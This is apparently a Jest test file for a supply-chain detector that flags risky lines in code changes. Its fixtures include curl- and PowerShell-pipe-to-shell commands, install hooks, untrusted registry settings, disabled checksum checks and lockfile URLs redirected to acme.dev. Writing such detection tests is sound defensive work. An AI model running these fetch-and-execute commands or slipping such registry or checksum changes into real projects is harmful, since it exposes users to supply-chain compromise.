import { expect, test } from '@jest/globals';
import {
  exampleFile,
  found,
  type SignalExample,
  withoutExample,
} from '../../../../test/samples/signal-lines.ts';
import { readChange } from '../../../analysis/read-change.ts';
import { scoreChange } from '../score.ts';
import { supplyChain } from './supply-chain.ts';

const each = (path: string, ...lines: string[]): readonly SignalExample[] =>
  lines.map((line) => [path, line]);
const npm = (host: string) => `      "resolved": "https://${host}/left-pad/-/left-pad-1.3.0.tgz",`;

const sure: readonly SignalExample[] = [
  ...each(
    'src/install.sh',
    ...['sh', 'bash', 'zsh', 'dash', 'sudo bash', 'python3', 'node'].map(
      (shell) => `curl https://acme.dev/a | ${shell}`,
    ),
    'wget -O- https://acme.dev/a | sh',
    'bash <(curl -s https://acme.dev/a)',
    'sh -c "$(curl -fsSL https://acme.dev/a)"',
  ),
  ...each(
    'src/install.ps1',
    'iwr https://acme.dev/a | iex',
    "iex ((New-Object Net.WebClient).DownloadString('https://acme.dev/a'))",
  ),
  ...each('Dockerfile', 'RUN curl -sSf https://acme.dev/a | sh', 'ADD https://acme.dev/kit.tar.gz /kit'),
  ...each('.github/workflows/ci.yml', '      - run: curl -s https://acme.dev/a | bash'),
  ...each(
    'package.json',
    '    "postinstall": "node install.js"',
    '"preinstall": "node a.js",',
    '"prepare": "node a.js"',
  ),
  ['package.json', '{ "name": "shop", "scripts": { "postinstall": "node a.js" } }'],
  ['packages/cart/package.json', '-    "postinstall": "node a.js"', '+    "postinstall": "node b.js"'],
  ['composer.json', '    "post-install-cmd": ["Kit::run"]'],
  ['setup.py', 'cmdclass={"install": Install},'],
  ...each(
    '.npmrc',
    'registry=http://mirror.acme.dev/',
    '@acme:registry=https://npm.acme.dev/',
    'ignore-scripts=false',
    '//npm.acme.dev/:_authToken=abc',
  ),
  ['.yarnrc.yml', 'npmRegistryServer: "https://npm.acme.dev"'],
  ['pip.conf', 'extra-index-url = https://pypi.acme.dev/simple'],
  ['.cargo/config.toml', 'replace-with = "mirror"'],
  ['NuGet.Config', '<add key="acme" value="https://nuget.acme.dev/v3" />'],
  ['Dockerfile', 'RUN pip install --extra-index-url https://pypi.acme.dev/simple kit'],
  ['src/build.sh', 'GOPROXY=https://proxy.acme.dev go build'],
  ['src/build.sh', 'export GONOSUMDB=*'],
  ['Gemfile', "source 'http://gems.acme.dev'"],
  ['src/install.sh', '-echo "$SUM kit.tgz" | sha256sum -c'],
  ['gradle/wrapper/gradle-wrapper.properties', '-distributionSha256Sum=abc'],
  ['src/install.sh', 'apt-get install --allow-unauthenticated kit'],
  ['src/a.yml', 'require_hashes: false'],
  ['src/a.yml', 'skip_checksum: true'],
  ['.gitmodules', '-  url = https://github.com/acme/kit', '+  url = https://acme.dev/kit'],
  ['package-lock.json', `-${npm('registry.npmjs.org')}`, `+${npm('files.acme.dev')}`],
  [
    'yarn.lock',
    '-  resolved "https://registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz#a"',
    '+  resolved "http://registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz#a"',
  ],
  ['poetry.lock', '-url = "https://pypi.org/simple"', '+url = "https://acme.dev/simple"'],
  ['Gemfile.lock', '-  remote: https://rubygems.org/', '+  remote: https://gems.acme.dev/'],
  [
    'Cargo.lock',
    '-source = "registry+https://github.com/rust-lang/crates.io-index"',
    '+source = "git+https://acme.dev/kit#abc"',
  ],
];

const hints: readonly SignalExample[] = [
  ['build.gradle', '  maven { url "https://maven.acme.dev" }'],
  ['gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=https\\://acme.dev/gradle-8.0-bin.zip'],
  ['src/install.sh', 'pip install git+https://acme.dev/kit'],
  ['src/install.sh', 'npm install -g kit'],
  ['src/app.ts', 'autoUpdater.checkForUpdates()'],
  ['package-lock.json', npm('files.acme.dev')],
];

test.each(sure)('sure: %j', (...example) => {
  expect(found(supplyChain, example)).toContain('supply-chain sure');
});

test.each(hints)('a hint: %j', (...example) => {
  expect(found(supplyChain, example)).toEqual(['supply-chain hint']);
});

test.each([
  'gradle/wrapper/gradle-wrapper.jar',
  'lib/kit.dll',
  'bin/tool.exe',
  'src/native.node',
  'vendor/kit.so',
])('a program that nobody can read: %s', (path) => {
  const file = exampleFile([path], { binary: true, status: 'added', patch: undefined as never });
  const { hits } = scoreChange(readChange({ files: [file] }));
  expect(hits.find(({ signal }) => signal === 'supply-chain')).toMatchObject({ grade: 'sure', path });
});

test('no detector is without an example', () => {
  const binaries = supplyChain.length - 2;
  expect(withoutExample(supplyChain, [...sure, ...hints])).toEqual([binaries]);
});

test.each<SignalExample>([
  ['src/install.sh', 'curl https://acme.dev/a'],
  ['src/install.sh', 'curl https://acme.dev/a | tar x'],
  ['src/install.sh', 'curling a | sh'],
  ['package.json', '    "prepare": "husky"'],
  ['package.json', '    "test": "jest"'],
  ['.npmrc', 'save-exact=true'],
  ['.npmrc', '# registry=http://mirror.acme.dev/'],
  ['package-lock.json', npm('registry.npmjs.org')],
  ['package-lock.json', `-${npm('npm.acme.dev')}`, `+${npm('npm.acme.dev')}`],
  ['package-lock.json', `|${npm('npm.acme.dev')}`, npm('npm.acme.dev')],
  [
    'gradle/wrapper/gradle-wrapper.properties',
    'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.0-bin.zip',
  ],
])('nothing: %j', (...example) => {
  expect(found(supplyChain, example)).toEqual([]);
});
